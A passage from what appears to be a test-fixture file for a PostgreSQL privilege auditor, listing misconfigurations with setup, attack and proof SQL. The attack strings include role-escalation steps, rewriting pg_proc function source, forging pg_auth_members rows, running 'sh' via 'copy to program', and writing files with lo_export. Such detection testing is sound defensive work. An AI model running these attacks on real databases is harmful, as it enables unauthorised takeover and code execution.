    attack: `grant {owner} to {app}; set role {group}; grant {owner} to {app}; reset role; set role {owner}; ${pwn}`,
  },
  {
    name: "admin of a role that makes roles",
    since: 16,
    setup: `create role {group} createrole; grant {group} to {app} with admin true, inherit false, set false`,
    attack: "grant {group} to {app} with set true; set role {group}; create role {pwned}",
  },
  {
    name: "admin of another login",
    setup: "grant {other} to {app} with admin option",
    attack: "grant {other} to {app}; set role {other}",
    proof: "select pg_has_role('{app}', '{other}', 'member')",
  },
  {
    name: "may hand its own group on",
    setup: "grant {rw} to {app} with admin option",
    attack: "grant {rw} to {other}",
    proof: "select pg_has_role('{other}', '{rw}', 'member')",
  },
  {
    name: "inherits the migrator, which inherits the owner",
    since: 16,
    setup:
      "grant {owner} to {migrator} with inherit true; grant {migrator} to {app} with inherit true, set false",
    attack: pwn,
  },
  {
    name: "a cloud's superuser by another name",
    setup:
      "create role {group} createrole createdb bypassrls; grant pg_read_all_data, pg_write_all_data, pg_monitor to {group}; grant {group} to {app}",
    attack: "set role {group}; create role {pwned}",
  },
  {
    name: "before 16 any membership lets it become the migrator, and so the owner",
    until: 15,
    setup:
      "create role {group} noinherit; grant {migrator} to {group}; grant {group} to {app}; alter role {app} noinherit",
    attack: `set role {owner}; ${pwn}`,
  },
  {
    name: "may give out a predefined role",
    setup: "grant pg_write_all_data to {app} with admin option",
    attack: "grant pg_write_all_data to {other}",
    proof: "select pg_has_role('{other}', 'pg_write_all_data', 'member')",
  },
  // Grants
  {
    name: "trigger on one partition",
    setup: `create table app.parted (id int) partition by range (id); create table app.p1 partition of app.parted for values from (0) to (10);
      alter table app.parted owner to {owner}; alter table app.p1 owner to {owner}; grant trigger on app.p1 to {rw}`,
    attack:
      "create trigger pwned before update on app.p1 for each row execute function suppress_redundant_updates_trigger()",
  },
  {
    name: "trigger on a foreign table",
    setup: `create extension postgres_fdw; create server {group} foreign data wrapper postgres_fdw; create foreign table app.remote (id int) server {group};
      alter foreign table app.remote owner to {owner}; grant trigger on app.remote to {rw}`,
    attack:
      "create trigger pwned before update on app.remote for each row execute function suppress_redundant_updates_trigger()",
  },
  {
    name: "create on information_schema",
    setup: "grant create on schema information_schema to {rw}",
    attack: "create table information_schema.pwned()",
  },
  {
    name: "all on a parameter",
    since: 15,
    apart: true,
    setup: "grant all on parameter work_mem to {app}",
    attack: "alter system set work_mem = '65MB'",
    proof: "select exists (select from pg_file_settings where name = 'work_mem' and setting = '65MB')",
  },
  {
    name: "grant option on a language",
    setup:
      "revoke usage on language plpgsql from public; grant usage on language plpgsql to {app} with grant option",
    attack: "grant usage on language plpgsql to {other}",
    proof: "select has_language_privilege('{other}', 'plpgsql', 'usage')",
  },
  {
    name: "grant option on a large object of the owner's",
    setup:
      "select lo_create(424242); alter large object 424242 owner to {owner}; grant select on large object 424242 to {app} with grant option",
    attack: "grant select on large object 424242 to {other}",
    proof:
      "select exists (select from pg_largeobject_metadata, aclexplode(lomacl) where oid = 424242 and grantee = '{other}'::regrole)",
  },
  {
    name: "grant option on the columns of a view",
    setup:
      "create view app.v as select id, name from app.users; alter view app.v owner to {owner}; grant select (name) on app.v to {app} with grant option",
    attack: "grant select (name) on app.v to {other}",
    proof: "select has_column_privilege('{other}', 'app.v', 'name', 'select')",
  },
  {
    name: "grant option on a tablespace",
    setup: "grant create on tablespace pg_default to {app} with grant option",
    attack: "grant create on tablespace pg_default to {other}",
    proof: "select has_tablespace_privilege('{other}', 'pg_default', 'create')",
  },
  {
    name: "the source column of pg_proc",
    setup: `${definer("app.f()", "begin null; end")} grant select on pg_proc to {app}; grant update (prosrc) on pg_catalog.pg_proc to {app}`,
    attack: `update pg_catalog.pg_proc set prosrc = 'begin ${pwn}; end' where proname = 'f' and pronamespace = 'app'::regnamespace; select app.f()`,
    proof: "select exists (select from pg_proc where proname = 'f' and prosrc like '%pwned%')",
  },
  {
    name: "a superuser's view over pg_auth_members, to insert",
    setup: `create view app.members as select * from pg_auth_members; grant select, insert on app.members to {app}`,
    attack: `insert into app.members select (jsonb_populate_record(null::app.members, to_jsonb(m) || jsonb_build_object('oid', 424242, 'roleid', '{owner}'::regrole::oid, 'member', '{app}'::regrole::oid))).* from app.members m limit 1`,
    proof:
      "select exists (select from pg_auth_members where roleid = '{owner}'::regrole and member = '{app}'::regrole)",
  },
  {
    name: "a superuser's view over pg_proc, to update",
    setup: `${definer("app.f()", "begin null; end")} create view app.functions as select * from pg_proc; grant select, update on app.functions to {app}`,
    attack: `update app.functions set prosrc = 'begin ${pwn}; end' where proname = 'f' and pronamespace = 'app'::regnamespace`,
    proof: "select exists (select from pg_proc where proname = 'f' and prosrc like '%pwned%')",
  },
  {
    name: "a superuser's function that gives a role away",
    setup: `create function app.join_group(g text) returns void language plpgsql security definer as $$ begin execute format('grant %I to %I', g, session_user); end $$`,
    attack: `select app.join_group('{owner}'); set role {owner}; ${pwn}`,
  },
  {
    name: "a superuser pipes a table into a program",
    setup: `create table app.commands (c text); alter table app.commands owner to {owner}; grant insert on app.commands to {rw};
      create function app.run_them() returns void language plpgsql security definer as $$ begin copy app.commands to program 'sh'; end $$`,
    attack: "insert into app.commands values ('echo pwned > {file}'); select app.run_them()",
    proof: "select (pg_stat_file('{file}', true)).size is not null",
  },
  {
    name: "a definer of a superuser in a language that is not looked into, %s",
    setup: `create function app.f(q text) returns xml language sql security definer set search_path = pg_catalog, pg_temp as $$ select query_to_xml(format('select max(%s) from app.users', q), true, true, '') $$`,
    attack: `select lo_from_bytea(424242, 'x'); select app.f('(select lo_export(424242, ''{file}''))')`,
    proof: "select (pg_stat_file('{file}', true)).size is not null",
  },
  {
    name: "maintain for everybody, by the group of a group",
    since: 17,
    setup:
      "create role {group} noinherit; grant maintain on app.users to {group}; grant {group} to {rw}; create index users_name on app.users (name); insert into app.users (name) values ('a')",
    attack: "cluster app.users using users_name",
    proof: "select indisclustered from pg_index where indexrelid = to_regclass('app.users_name')",
  },
  {
    name: "default privileges: maintain",
    since: 17,
    setup: "alter default privileges for role {owner} in schema app grant maintain on tables to {rw}",
    attack: "select 1",
    afterwards: "create table app.next ()",
    proof: "select has_table_privilege('{app}', 'app.next', 'maintain')",
  },
  {
    name: "default privileges of the owner for everybody: trigger",
    setup: "alter default privileges for role {owner} grant trigger on tables to public",
    attack: "select 1",
    afterwards: "create table app.next ()",
    proof: "select has_table_privilege('{app}', 'app.next', 'trigger')",
  },
  {
    name: "the database's own role is the owner",
    setup: "alter role {app} in database {db} set role = {owner}; grant {owner} to {app}",
    attack: `set role {owner}; ${pwn}`,
  },
]
